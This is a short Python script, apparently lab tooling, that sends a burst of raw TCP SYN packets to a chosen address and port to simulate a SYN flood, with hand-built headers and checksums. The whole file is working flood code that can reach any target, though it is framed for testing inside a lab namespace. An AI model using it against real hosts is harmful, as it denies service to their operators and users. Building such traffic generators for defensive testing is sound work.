"""SYNs crafted with a raw socket, for the lab's SYN-flood scenario: no socket stands behind them, so
nothing answers the server's SYN,ACKs (the lab also drops those on the client's input hook, or the
client's kernel would reset each one). Standard library only; run as root inside the lab's client
namespace by scripts/lab/lab.ts:

    python3 synflood.py SRC_ADDR DST_ADDR DST_PORT FIRST_SRC_PORT COUNT

Each SYN carries an MSS option of 1460 and a random initial sequence number; the kernel adds the IP
header. Prints nothing; exits non-zero on error.
"""

import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    options = struct.pack("!BBH", 2, 4, 1460)  # MSS
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, offset << 4, 0x02, 64240, 0, 0)
    segment = header + options
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    return segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]


def main() -> None:
    src, dst, dport, first, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        raw.bind((src, 0))
        for sport in range(first, first + count):
            raw.sendto(syn(src, dst, sport, dport), (dst, 0))


main()
